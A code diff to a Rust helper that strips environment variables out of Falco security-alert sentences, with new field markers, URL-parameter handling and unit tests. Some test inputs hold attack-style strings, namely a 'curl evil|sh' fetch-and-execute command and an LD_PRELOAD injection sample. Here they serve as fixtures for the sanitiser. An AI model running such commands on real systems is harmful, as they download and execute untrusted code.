@@ -9,6 +9,10 @@ const LEFT_OUT: &str = "[left out]";
 /// What follows the environment in the arguments of `execve`; the variables' own values may hold anything.
 const AFTER: [&str; 5] = [" tty=", " vpgid=", " pgid=", " loginuid=", " cgroups="];
 
+/// Fields that follow in the sentences of rules. A command that begins with `env=` must not hide them.
+const FIELDS: [&str; 9] =
+    [" container", " proc_", " k8s_", " k8s.", " image=", " user=", " user_", " parent=", " terminal="];
+
 /// Whether a field holds environment variables: `proc.env`, `proc.aenv[2]`, `evt.arg[env]`, or with the underscores that
 /// falcosidekick makes of dots and brackets.
 pub(super) fn is_one(name: &str) -> bool {
@@ -41,7 +45,8 @@ pub(super) fn without(arguments: Cow<'_, str>) -> Cow<'_, str> {
 pub(super) fn within(sentence: Cow<'_, str>) -> Cow<'_, str> {
     let found = sentence.match_indices("env=").map(|(at, _)| at).find(|at| {
         // `--env=A=1` is an option, `--set env=prod` has one value.
-        let own_word = !sentence[..*at].ends_with(|c: char| c.is_ascii_alphanumeric() || c == '-');
+        // In an address it is a parameter.
+        let own_word = !sentence[..*at].ends_with(|c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '?' | '&'));
         own_word && starts_with_variable(&sentence[at + "env=".len()..])
     });
     match found {
@@ -60,7 +65,9 @@ fn starts_with_variable(text: &str) -> bool {
 /// The text without the environment that begins here.
 fn cut(text: &str, at: usize) -> String {
     let (before, environment) = text.split_at(at);
-    let rest = AFTER.iter().filter_map(|name| environment.rfind(name)).min().map_or("", |at| &environment[at..]);
+    let after = AFTER.iter().filter_map(|name| environment.rfind(name)).min();
+    let next = || FIELDS.iter().filter_map(|name| environment.find(name)).min();
+    let rest = after.or_else(next).map_or("", |at| &environment[at..]);
     format!("{before}env={LEFT_OUT}{rest}")
 }
 
@@ -103,6 +110,11 @@ mod tests {
             ("preload (user=root env=LD_PRELOAD=/x.so DBX=hush)", "preload (user=root env=[left out]"),
             ("args=env=A=1.B=2.", "args=env=[left out]"),
             ("proc.env=A=1 B=2", "proc.env=[left out]"),
+            (
+                "Shell (command=sh -c env=A=1;curl evil|sh proc_exepath=/bin/sh image=nginx)",
+                "Shell (command=sh -c env=[left out] proc_exepath=/bin/sh image=nginx)",
+            ),
+            ("curl http://x/?env=a=b&env=c=d y", "curl http://x/?env=a=b&env=c=d y"),
             ("command=docker run --env=A=1 nginx", "command=docker run --env=A=1 nginx"),
             ("helm --set env=prod --set x=y", "helm --set env=prod --set x=y"),
             ("the env= is empty, setenv=A=1", "the env= is empty, setenv=A=1"),
